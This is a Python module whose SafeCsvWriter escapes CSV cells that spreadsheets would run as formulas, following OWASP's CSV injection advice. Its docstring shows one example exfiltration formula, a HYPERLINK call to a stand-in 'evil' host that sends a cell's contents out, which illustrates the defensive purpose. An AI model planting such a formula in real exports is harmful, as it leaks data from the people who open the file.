"""CSV that a spreadsheet opens as data: every CSV the API sends is written by `SafeCsvWriter`.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (a tab
or carriage return first can hide such a start), so a review, a key or a class name like
`=HYPERLINK("http://evil/?"&A1)` in an export would run on the analyst's machine. Such a text cell goes
out with a leading `'`, which spreadsheets read as "this is text" (OWASP's advice on CSV injection).
Numbers stay numbers: a numeric value, or a text that is a plain number such as "-0.25", is written
as is (a plain number is no formula).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet must see it: text that a spreadsheet would run gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer whose rows go through `safe_cell`."""

    def __init__(self, out: Any) -> None:
        self._writer: _Writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
